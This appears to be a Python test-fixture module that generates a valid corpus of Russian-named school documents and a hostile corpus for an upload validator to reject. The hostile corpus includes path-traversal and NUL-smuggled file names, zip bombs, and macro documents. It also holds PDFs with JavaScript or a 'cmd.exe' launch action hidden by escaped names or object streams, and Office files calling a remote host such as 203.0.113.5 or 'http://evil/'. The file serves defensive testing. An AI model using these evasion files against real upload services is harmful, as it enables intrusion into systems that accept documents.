"""Generated files for the upload tests: a valid corpus with Cyrillic names and a hostile one."""
import io
import zipfile

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"


def pdf_bytes(comment: str = "", *, catalog: bytes = b"", page: bytes = b"",
              extra: tuple[bytes, ...] = ()) -> bytes:
    """A well-formed one-page PDF written by hand (so that names stay exactly as written: #xx
    escapes included); `comment` marks the bytes, `extra` objects are numbered from 4 on."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>", *extra]
    out = bytearray(b"%PDF-1.4\n" + (f"% {comment}\n".encode() if comment else b""))
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


PDF = pdf_bytes()
JPEG = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + b"\x00" * 64 + b"\xff\xd9")
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
       b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
       b"\x00\x00\x00\x00IEND\xaeB`\x82")
EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100
       + b"This program cannot be run in DOS mode")
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"

CONTENT_TYPES_XML = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.'
                     'openxmlformats.org/package/2006/content-types"><Override PartName="{part}" '
                     'ContentType="application/vnd.openxmlformats-officedocument.{kind}"/></Types>')


def zip_bytes(entries: dict[str, bytes], *, first_stored: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first_stored:
            archive.writestr(zipfile.ZipInfo(first_stored), entries.pop(first_stored),
                             compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx() -> bytes:
    from docx import Document
    document = Document()
    document.add_paragraph("Справка о проведении мониторинга профессиональных затруднений")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx() -> bytes:
    from openpyxl import Workbook
    book = Workbook()
    book.active.append(["Оборудование", "Количество"])
    book.active.append(["Интерактивная панель", 3])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def odt() -> bytes:
    return zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.text",
                      "content.xml": "<office:document-content>План</office:document-content>"
                      .encode(), "META-INF/manifest.xml": b"<manifest/>"},
                     first_stored="mimetype")


def valid_corpus() -> list[tuple[str, bytes]]:
    return [("Приказ о назначении ответственных № 5.pdf", PDF),
            ("Справка о мониторинге затруднений.docx", docx()),
            ("Перечень оборудования для закупки.xlsx", xlsx()),
            ("План работы «Школа – школе».odt", odt()),
            ("Фото семинара.jpg", JPEG),
            ("Схема.PNG", PNG)]


def _docx_with(extra: dict[str, bytes], content_type_kind="wordprocessingml.document.main+xml"):
    types = CONTENT_TYPES_XML.format(part="/word/document.xml", kind=content_type_kind).encode()
    return zip_bytes({"[Content_Types].xml": types, "word/document.xml": b"<w:document/>",
                      **extra})


def hostile_corpus(max_file_bytes: int) -> list[tuple[str, str, bytes]]:
    """(category, file name, content): every one must be refused and leave nothing behind."""
    plain_zip = zip_bytes({"readme.txt": "просто архив".encode()})
    bomb_ratio = zip_bytes({"[Content_Types].xml": CONTENT_TYPES_XML.format(
        part="/word/document.xml", kind="wordprocessingml.document.main+xml").encode(),
        "word/document.xml": b"\x00" * (30 * 1024 * 1024)})
    bomb_entries = zip_bytes({"[Content_Types].xml": b"wordprocessingml.document.main+xml",
                              **{f"word/part{i}.xml": b"x" for i in range(1500)}})
    return [
        ("wrong extension", "setup.exe", EXE),
        ("wrong extension", "script.js", b"alert(1)"),
        ("wrong extension", "page.html", HTML),
        ("wrong extension", "vector.svg", b"<svg onload='alert(1)'/>"),
        ("wrong extension", "archive.zip", plain_zip),
        ("wrong extension", "macro.docm", _docx_with({})),
        ("wrong extension", "macro.xlsm", _docx_with({})),
        ("wrong extension", "no_extension", PDF),
        ("double extension", "приказ.exe.pdf", PDF),
        ("double extension", "справка.html.pdf", PDF),
        ("double extension", "фото.php.jpg", JPEG),
        ("double extension", "отчёт.pdf.exe", EXE),
        ("traversal name", "../../etc/passwd.pdf", PDF),
        ("traversal name", "..\\..\\windows\\win.pdf", PDF),
        ("traversal name", "/var/www/static/evil.pdf", PDF),
        ("traversal name", ".htaccess.pdf", PDF),
        ("NUL name", "приказ\x00.pdf", PDF),
        ("NUL name", "справка.pdf\x00.exe", PDF),
        ("long name", "я" * 300 + ".pdf", PDF),
        ("empty", "пустой.pdf", b""),
        ("empty", "пустой.docx", b""),
        ("oversized", "большой.pdf", PDF + b"0" * max_file_bytes),
        ("HTML as PDF", "приказ.pdf", HTML),
        ("EXE as PDF", "справка.pdf", EXE),
        ("HTML as DOCX", "план.docx", HTML),
        ("EXE as DOCX", "программа.docx", EXE),
        ("PNG as JPG", "фото.jpg", PNG),
        ("PDF as PNG", "схема.png", PDF),
        ("PDF as ODT", "план.odt", PDF),
        ("non-OOXML zip", "отчёт.docx", plain_zip),
        ("non-OOXML zip", "таблица.xlsx", plain_zip),
        ("XLSX as ODT", "таблица.odt", xlsx()),
        ("DOCX as XLSX", "документ.xlsx", docx()),
        ("corrupt zip", "битый.docx", b"PK\x03\x04" + b"\x00" * 200),
        ("zip bomb", "бомба.docx", bomb_ratio),
        ("zip bomb", "много частей.docx", bomb_entries),
        ("macro document", "макрос.docx", _docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("macro document", "макрос2.docx", _docx_with(
            {}, content_type_kind="word.document.macroEnabled.main+xml")),
        ("macro document", "макрос.odt", zip_bytes({
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "Basic/Standard/Module1.xml": b"<script:module/>"}, first_stored="mimetype")),
        ("active PDF", "скрипт.pdf",
         b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        *hostile_pdfs(),
        *hostile_packages(),
    ]


# Active content hidden from a byte search: each of these must be found by parsing.

def _pikepdf_bytes(build, **save) -> bytes:
    """A PDF written by pikepdf with its objects packed into compressed object streams."""
    import pikepdf
    pdf = pikepdf.new()
    pdf.add_blank_page()
    build(pdf, pikepdf)
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate,
             compress_streams=True, **save)
    return buffer.getvalue()


def _open_action_js(pdf, pikepdf):
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('http://evil/')")))


def _page_launch(pdf, pikepdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary(
            F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc"))))


def _link_js(pdf, pikepdf):
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print()")))]))


def _names_js(pdf, pikepdf):
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                  JS=pikepdf.String("app.alert(1)")))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("start"), action])))


def _attachment(pdf, pikepdf):
    pdf.attachments["программа.exe"] = pikepdf.AttachedFileSpec(pdf, EXE, mime_type="x/exe")


def _xfa(pdf, pikepdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(
        b"<xdp:xdp><script>xfa.host.messageBox('1')</script></xdp:xdp>"))


def _locked(pdf, pikepdf):
    pass


def hostile_pdfs() -> list[tuple[str, str, bytes]]:
    import pikepdf
    locked = _pikepdf_bytes(_locked, encryption=pikepdf.Encryption(user="секрет", owner="x"))
    return [
        ("PDF escaped names", "сценарий.pdf", pdf_bytes(
            catalog=b"/OpenAction << /S /#4Aava#53cript /#4A#53 (app.alert(1)) >>")),
        ("PDF escaped names", "запуск.pdf", pdf_bytes(
            page=b"/AA << /O << /S /L#61unch /F (cmd.exe) >> >>")),
        ("PDF escaped names", "вложение.pdf", pdf_bytes(
            catalog=b"/Names << /Embedded#46iles << /Names [(a.exe) 4 0 R] >> >>",
            extra=(b"<< /Type /Filespec /F (a.exe) /#45F << /F 5 0 R >> >>",
                   b"<< /Type /Embedded#46ile /Length 2 >>stream\nMZ\nendstream"))),
        ("PDF object-stream script", "открытие.pdf", _pikepdf_bytes(_open_action_js)),
        ("PDF object-stream script", "ссылка.pdf", _pikepdf_bytes(_link_js)),
        ("PDF object-stream script", "имена.pdf", _pikepdf_bytes(_names_js)),
        ("PDF object-stream script", "форма XFA.pdf", _pikepdf_bytes(_xfa)),
        ("PDF launch action", "действие.pdf", _pikepdf_bytes(_page_launch)),
        ("PDF embedded file", "с вложением.pdf", _pikepdf_bytes(_attachment)),
        ("PDF password", "с паролем.pdf", locked),
        ("PDF damaged", "битый.pdf", b"%PDF-1.4\n" + b"\x00garbage" * 50),
    ]


def docx_patched(*, rels: str = "", add: dict[str, bytes] | None = None,
                 types: str = "") -> bytes:
    """The python-docx document with relationships, parts or content types added."""
    source = zipfile.ZipFile(io.BytesIO(docx()))
    entries = {name: source.read(name) for name in source.namelist()}
    main_rels = "word/_rels/document.xml.rels"
    entries[main_rels] = entries[main_rels].replace(b"</Relationships>",
                                                    rels.encode() + b"</Relationships>")
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"</Types>", types.encode() + b"</Types>")
    entries.update(add or {})
    return zip_bytes(entries)


def _rels(*relationships: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships">' + "".join(relationships)
            + "</Relationships>").encode()


def _chart_docx(workbook: bytes, name: str = "Microsoft_Excel_Worksheet.xlsx") -> bytes:
    return docx_patched(
        rels=f'<Relationship Id="rId90" Type="{REL}chart" Target="charts/chart1.xml"/>',
        add={"word/charts/chart1.xml": b"<c:chartSpace/>",
             "word/charts/_rels/chart1.xml.rels": _rels(
                 f'<Relationship Id="rId1" Type="{REL}package" Target="../embeddings/{name}"/>'),
             f"word/embeddings/{name}": workbook})


def xlsx_patched(*, rels: str, add: dict[str, bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(xlsx()))
    entries = {name: source.read(name) for name in source.namelist()}
    book_rels = "xl/_rels/workbook.xml.rels"
    entries[book_rels] = entries[book_rels].replace(b"</Relationships>",
                                                    rels.encode() + b"</Relationships>")
    entries.update(add)
    return zip_bytes(entries)


def hostile_packages() -> list[tuple[str, str, bytes]]:
    remote_template = docx_patched(add={"word/_rels/settings.xml.rels": _rels(
        f'<Relationship Id="rId1" Type="{REL}attachedTemplate" '
        'Target="http://203.0.113.5/template.dotm" TargetMode="External"/>')})
    macro_workbook = xlsx_patched(rels=f'<Relationship Id="rId9" Type="{MS_REL}vbaProject" '
                                       'Target="data.bin"/>', add={"xl/data.bin": b"\xd0\xcf"})
    return [
        ("DOCX remote template", "шаблон.docx", remote_template),
        ("DOCX remote template", "шаблон по ссылке.docx", docx_patched(add={
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{REL}attachedTemplate" '
                'Target="\\\\203.0.113.5\\share\\t.dotm" TargetMode="&#69;xternal"/>')})),
        ("DOCX external object", "объект.docx", docx_patched(
            rels=f'<Relationship Id="rId91" Type="{REL}oleObject" '
                 'Target="http://203.0.113.5/object.bin" TargetMode="External"/>')),
        ("DOCX external object", "картинка-маяк.docx", docx_patched(
            rels=f'<Relationship Id="rId92" Type="{REL}image" '
                 'Target="file://203.0.113.5/pixel.png" TargetMode="External"/>')),
        ("DOCX external object", "вставка.docx", docx_patched(
            rels=f'<Relationship Id="rId93" Type="{REL}aFChunk" Target="chunk.mht"/>',
            add={"word/chunk.mht": b"MIME-Version: 1.0"})),
        ("XLSX external link", "связи.xlsx", xlsx_patched(
            rels=f'<Relationship Id="rId9" Type="{REL}externalLink" '
                 'Target="externalLinks/externalLink1.xml"/>',
            add={"xl/externalLinks/externalLink1.xml": b"<externalLink/>",
                 "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(
                     f'<Relationship Id="rId1" Type="{REL}externalLinkPath" '
                     'Target="http://203.0.113.5/book.xlsx" TargetMode="External"/>')})),
        ("XLSX external link", "подключение.xlsx", xlsx_patched(
            rels=f'<Relationship Id="rId9" Type="{REL}connections" Target="connections.xml"/>',
            add={"xl/connections.xml": b"<connections/>"})),
        ("DOCX embedded object", "встроенный.docx", docx_patched(
            rels=f'<Relationship Id="rId94" Type="{REL}oleObject" '
                 'Target="embeddings/oleObject1.bin"/>',
            add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        ("DOCX embedded object", "пакет.docx", docx_patched(
            add={"word/embeddings/Package.exe": EXE})),
        ("DOCX embedded object", "элемент ActiveX.docx", docx_patched(
            add={"word/activeX/activeX1.xml": b"<ax:ocx/>"},
            types='<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>')),
        ("DOCX embedded object", "диаграмма с макросом.docx",
         _chart_docx(macro_workbook)),
        ("DOCX embedded object", "диаграмма.docx", _chart_docx(xlsx(), "data.xlsm")),
        ("macro document", "макрос по связи.docx", docx_patched(
            rels=f'<Relationship Id="rId95" Type="{MS_REL}vbaProject" Target="code.bin"/>',
            add={"word/code.bin": b"\xd0\xcf\x11\xe0"})),
        ("macro document", "макрос со ссылкой.docx", docx_patched(
            types='<Default Extension="bin" ContentType="application/vnd.ms-office.'
                  'vba&#80;roject"/>')),
        ("macro document", "макросы.xlsx", macro_workbook),
        ("DOCX damaged", "сущности.docx", docx_patched(add={
            "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a '
            b'"aaaa">]><Relationships>&a;</Relationships>'})),
        ("wrong extension", "презентация.pptx", docx_patched()),
    ]


def valid_structured_corpus() -> list[tuple[str, bytes]]:
    """Documents with the structures that are allowed: a hyperlink, a chart with its data."""
    return [("Ссылки на ресурсы.docx", docx_patched(
                rels=f'<Relationship Id="rId96" Type="{REL}hyperlink" '
                     'Target="https://edu.gov.ru/" TargetMode="External"/>')),
            ("Отчёт с диаграммой.docx", _chart_docx(xlsx()))]
